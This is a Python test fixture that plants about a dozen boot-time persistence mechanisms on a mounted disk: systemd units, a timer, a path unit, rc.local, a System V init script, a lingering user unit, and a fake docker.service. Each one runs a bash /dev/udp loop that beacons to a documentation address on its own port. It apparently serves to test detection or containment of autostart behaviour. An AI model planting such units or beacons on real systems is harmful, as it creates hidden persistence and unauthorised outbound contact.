"""All on a disk that could act on the world by itself; each sends to a port of its own, so that one knows which did."""

from __future__ import annotations

from pathlib import Path
from typing import Final

from raxx_bcp_tests.real_host.machine import write
from raxx_bcp_tests.real_host.production import LOGIN, inside

WORLD: Final = "203.0.113.9"
"""Of an address block for documentation: it leads nowhere but to the eyes on the packets (RFC 5737)."""
ACTORS: Final = {
    9001: "a unit that starts before everything else",
    9002: "docker.service",
    9003: "a lingering user's own unit",
    9004: "rc.local",
    9005: "a script of System V's init",
    9006: "a timer",
    9007: "an instance of a template",
    9008: "a path unit",
}
_SEND: Final = "/usr/local/bin/send"
_SEND_TEXT: Final = f"#!/bin/bash\nwhile :; do echo x 2>/dev/null >/dev/udp/{WORLD}/$1; sleep 0.3; done\n"
_SYSV: Final = f"""\
#!/bin/sh
### BEGIN INIT INFO
# Provides: old-sender
# Required-Start:
# Required-Stop:
# Default-Start: 2 3 4 5
# Default-Stop:
# Short-Description: an init script
### END INIT INFO
[ "$1" != start ] || {_SEND} 9005 &
"""
_CONTAINER: Final = f"""\
#!/bin/sh
# As Docker does it: a bridge, a container behind it, and rules of its own before all others.
ip link add docker0 type bridge && ip addr add 172.17.0.1/16 dev docker0 && ip link set docker0 up
ip netns add box && ip link add veth0 type veth peer name eth0 netns box
ip link set veth0 master docker0 up
ip -n box addr add 172.17.0.2/16 dev eth0 && ip -n box link set eth0 up && ip -n box route add default via 172.17.0.1
echo 1 >/proc/sys/net/ipv4/ip_forward
iptables -t nat -A POSTROUTING -s 172.17.0.0/16 ! -o docker0 -j MASQUERADE
iptables -I FORWARD -o docker0 -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
iptables -I FORWARD -i docker0 ! -o docker0 -j ACCEPT
{_SEND} 9002 &
exec ip netns exec box {_SEND} 9009
"""
IN_A_CONTAINER: Final = 9009


def make_hostile(root: Path) -> None:
    """Put all of it on the mounted disk at ``root``."""
    write(root / _SEND.lstrip("/"), _SEND_TEXT, 0o755)
    early = "[Unit]\nDefaultDependencies=no\n"
    _unit(root, "phone-home.service", _service(9001), "sysinit.target", unit=early)
    docker(root)
    inside(root, "systemctl", "enable", "docker.service")
    write(root / "etc/rc.local", f"#!/bin/sh\n{_SEND} 9004 &\n", 0o755)
    write(root / "etc/init.d/old-sender", _SYSV, 0o755)
    inside(root, "update-rc.d", "old-sender", "defaults")
    _unit(root, "often.service", _service(9006), "")
    _unit(root, "often.timer", "[Timer]\nOnBootSec=0\nOnActiveSec=1\n", "timers.target")
    _unit(root, "worker@.service", _service(9007), "multi-user.target", enable="worker@1.service")
    _unit(root, "seen.service", _service(9008), "")
    _unit(root, "seen.path", "[Path]\nPathExists=/etc/passwd\n", "multi-user.target")
    write(root / f"var/lib/systemd/linger/{LOGIN}", "")
    own = root / f"home/{LOGIN}/.config/systemd/user"
    write(own / "own.service", f"{_service(9003)}[Install]\nWantedBy=default.target\n")
    wants = own / "default.target.wants"
    wants.mkdir(exist_ok=True)
    (wants / "own.service").symlink_to("../own.service")
    inside(root, "chown", "-R", f"{LOGIN}:{LOGIN}", f"/home/{LOGIN}")


def docker(root: Path) -> None:
    """A docker.service that starts a container, not enabled."""
    write(root / _SEND.lstrip("/"), _SEND_TEXT, 0o755)
    write(root / "usr/local/bin/containers", _CONTAINER, 0o755)
    unit = "[Unit]\nWants=network.target\nAfter=network.target\n"
    _unit(
        root, "docker.service", "[Service]\nExecStart=/usr/local/bin/containers\n", "multi-user.target", unit, enable=""
    )


def _service(port: int) -> str:
    return f"[Service]\nExecStart={_SEND} {port}\n"


def _unit(
    root: Path, name: str, body: str, wanted_by: str, unit: str = "[Unit]\n", *, enable: str | None = None
) -> None:
    install = f"[Install]\nWantedBy={wanted_by}\n" if wanted_by else ""
    write(root / "etc/systemd/system" / name, f"{unit}Description=acts on the world\n{body}{install}")
    if wanted_by and enable != "":
        inside(root, "systemctl", "enable", enable or name)
